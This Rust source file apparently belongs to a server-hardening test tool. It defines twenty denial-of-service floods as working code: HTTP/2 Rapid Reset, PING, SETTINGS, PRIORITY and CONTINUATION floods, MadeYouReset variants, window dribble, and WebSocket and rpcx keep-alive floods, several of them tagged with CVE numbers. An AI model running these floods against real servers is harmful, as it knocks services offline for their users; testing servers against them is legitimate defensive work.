//! The known HTTP/2 floods, and similar ones of other protocols: cheap to send, expensive to handle.

use std::io;
use std::time::{Duration, Instant};

use super::connection::RawConnection;
use super::{Attack, AttackContext, End, Form, Outcome, attack};
use crate::raw::frames;
use crate::raw::h2::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADER_TABLE_SIZE, HEADERS,
    INITIAL_WINDOW_SIZE, LARGEST_WINDOW, PADDED, PING, PRIORITY, grpc_head, stream,
};

/// A flooded server sends GOAWAY soon.
const SOON: End = End::Within(|_| Duration::from_secs(3));
const COSTS_NO_MORE_THAN_HONEST_TRAFFIC: End = End::Held("costs no more than honest traffic");

pub(super) const ATTACKS: [Attack; 20] = [
    attack("rapid_reset", "7", "100,000 streams, each reset at once (CVE-2023-44487)", SOON, |context| {
        Box::pin(flood(
            context,
            |_| {},
            |frames, index| {
                frames.head(stream(index), &echo());
                frames.reset(stream(index));
            },
        ))
    }),
    attack("ping", "flood", "PING without end (CVE-2019-9512)", SOON, |context| {
        Box::pin(flood(context, |_| {}, |frames, _| frames.frame(PING, 0, 0, b"anybody?")))
    }),
    attack("settings", "flood", "SETTINGS without end (CVE-2019-9515)", SOON, |context| {
        Box::pin(flood(context, |_| {}, |frames, _| frames.settings(&[])))
    }),
    attack("settings_table_size", "flood", "SETTINGS that change the table of HPACK", SOON, |context| {
        Box::pin(flood(
            context,
            |_| {},
            |frames, index| {
                frames.settings(&[(HEADER_TABLE_SIZE, if index.is_multiple_of(2) { 0 } else { u32::MAX })]);
            },
        ))
    })
    .with_form(Form::FullOnly),
    attack("empty_data", "flood", "empty DATA without end (CVE-2019-9518)", SOON, |context| {
        Box::pin(flood(context, |frames| frames.head(1, &echo()), |frames, _| frames.frame(DATA, 0, 1, &[])))
    }),
    attack("empty_data_padded", "flood", "DATA of padding alone without end", SOON, |context| {
        Box::pin(flood(
            context,
            |frames| frames.head(1, &echo()),
            |frames, _| frames.frame(DATA, PADDED, 1, &[0]),
        ))
    })
    .with_form(Form::FullOnly),
    attack("continuation_empty", "flood", "CONTINUATION without end (CVE-2024-27316)", SOON, |context| {
        Box::pin(flood(context, begin_head, |frames, _| frames.frame(CONTINUATION, 0, 1, &[])))
    })
    .with_form(Form::FullOnly),
    attack("continuation_long", "flood", "long CONTINUATION without end", SOON, |context| {
        Box::pin(flood(context, begin_head, |frames, _| frames.frame(CONTINUATION, 0, 1, &[0x83; 16_384])))
    }),
    attack("priority", "flood", "PRIORITY without end (CVE-2019-9513)", SOON, |context| {
        Box::pin(flood(context, |_| {}, |frames, index| frames.frame(PRIORITY, 0, stream(index), &[0; 5])))
    }),
    attack("unknown_frames", "flood", "frames of an unknown kind without end", SOON, |context| {
        Box::pin(flood(context, |_| {}, |frames, _| frames.frame(0x77, 0, 0, b"unknown")))
    })
    .with_form(Form::FullOnly),
    attack(
        "made_you_reset",
        "flood",
        "windows that overflow, so that the server resets (CVE-2025-8671)",
        SOON,
        |context| {
            Box::pin(flood(
                context,
                |_| {},
                |frames, index| {
                    frames.head(stream(index), &echo());
                    frames.window_update(stream(index), LARGEST_WINDOW);
                },
            ))
        },
    ),
    attack(
        "made_you_reset_zero",
        "flood",
        "windows that grow by nothing, so that the server resets",
        SOON,
        |context| {
            Box::pin(flood(
                context,
                |_| {},
                |frames, index| {
                    frames.head(stream(index), &echo());
                    frames.window_update(stream(index), 0);
                },
            ))
        },
    )
    .with_form(Form::FullOnly),
    attack("made_you_reset_half_closed", "flood", "DATA behind the end of a stream", SOON, |context| {
        Box::pin(flood(
            context,
            |_| {},
            |frames, index| {
                frames.frame(HEADERS, END_HEADERS | END_STREAM, stream(index), &echo());
                frames.frame(DATA, 0, stream(index), b"late");
            },
        ))
    })
    .with_form(Form::FullOnly),
    attack(
        "header_list_bomb",
        "flood",
        "a field of 4 KiB, a byte for each time it is meant (CVE-2016-6581)",
        End::Held("each fails its stream alone"),
        |context| {
            Box::pin(flood(
                context,
                |frames| frames.call(1, &[echo(), large_field()].concat(), b"x"),
                |frames, index| {
                    frames.head(stream(index + 1), &[echo(), vec![0xbe; 16_000]].concat());
                },
            ))
        },
    ),
    attack(
        "window_updates",
        "flood",
        "WINDOW_UPDATE without end",
        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
        |context| Box::pin(flood(context, |_| {}, |frames, _| frames.window_update(0, 1))),
    )
    .with_form(Form::FullOnly),
    attack(
        "window_dribble",
        "flood",
        "100 answers of 1 MiB that may only leave byte by byte (CVE-2019-9511)",
        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
        |context| {
            Box::pin(flood(context, without_windows, |frames, index| {
                frames.window_update(stream(index % 100), 1)
            }))
        },
    ),
    attack(
        "http2_acks",
        "flood",
        "acknowledgements of PING that nobody asked for",
        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
        |context| Box::pin(flood(context, |_| {}, |frames, _| frames.frame(PING, ACK, 0, b"anybody?"))),
    )
    .with_form(Form::FullOnly),
    attack(
        "websocket_pings",
        "kin",
        "pings of a WebSocket without end, pongs not read",
        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
        |context| Box::pin(websocket(context, frames::websocket(0x89, &[b'x'; 100]))),
    ),
    attack(
        "websocket_fragments",
        "kin",
        "a message of a WebSocket in fragments that never end",
        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
        |context| Box::pin(websocket(context, frames::websocket(0x00, &[b'x'; 1_000]))),
    ),
    attack(
        "rpcx_heartbeats",
        "kin",
        "heartbeats of rpcx without end, answers not read",
        COSTS_NO_MORE_THAN_HONEST_TRAFFIC,
        |context| Box::pin(heartbeats(context)),
    ),
];

fn echo() -> Vec<u8> {
    grpc_head("/Bare/Echo", &[])
}

fn begin_head(frames: &mut Frames) {
    frames.frame(HEADERS, 0, 1, &echo());
}

fn without_windows(frames: &mut Frames) {
    frames.settings(&[(INITIAL_WINDOW_SIZE, 0)]);
    let head = grpc_head("/Bare/Blob", &[]);
    (0..100).for_each(|index| frames.call(stream(index), &head, b"x"));
}

/// A header field that nearly fills the dynamic table.
fn large_field() -> Vec<u8> {
    [&b"\x40\x05x-big\x7f\xa1\x1e"[..], &[b'a'; 4_000]].concat()
}

/// One connection that sends an opening, then repeats rounds as long as the server reads them.
async fn flood(
    context: AttackContext,
    opening: fn(&mut Frames),
    write_round: fn(&mut Frames, usize),
) -> io::Result<Outcome> {
    const MAX_ROUNDS: usize = 100_000;
    let mut frames = Frames::begin();
    opening(&mut frames);
    let mut connection = context.connect().await?;
    connection.expect_frames();
    connection.send(&frames.bytes).await;
    let (begun, window) = (Instant::now(), context.profile.window());
    let mut rounds = 0;
    while rounds < MAX_ROUNDS && begun.elapsed() < window && !connection.is_closed() {
        frames.bytes.clear();
        while frames.bytes.len() < 16 << 10 {
            write_round(&mut frames, rounds);
            rounds += 1;
        }
        if !connection.send(&frames.bytes).await {
            break;
        }
    }
    Ok(context.hold(vec![connection]).await.note(format!("{rounds} rounds")))
}

/// Sends the same bytes repeatedly, and reads nothing.
async fn repeat(context: &AttackContext, connection: &mut RawConnection, bytes: &[u8]) {
    let many = bytes.repeat((64 << 10) / bytes.len());
    let (begun, window) = (Instant::now(), context.profile.window());
    while begun.elapsed() < window && connection.send(&many).await {}
}

async fn websocket(context: AttackContext, frame: Vec<u8>) -> io::Result<Outcome> {
    let mut connection = context.connect().await?;
    connection.send_and_receive(frames::WEBSOCKET).await;
    // The first fragment of a message; pings may follow it.
    connection.send(&frames::websocket(0x02, b"x")).await;
    let mut connection = connection.without_reading();
    repeat(&context, &mut connection, &frame).await;
    Ok(context.hold(vec![connection]).await)
}

async fn heartbeats(context: AttackContext) -> io::Result<Outcome> {
    let mut heartbeat = frames::rpcx("", "", 1, b"");
    // The heartbeat flag, in the third byte.
    heartbeat[2] |= 0x40;
    let mut connection = context.connect().await?.without_reading();
    repeat(&context, &mut connection, &heartbeat).await;
    Ok(context.hold(vec![connection]).await)
}
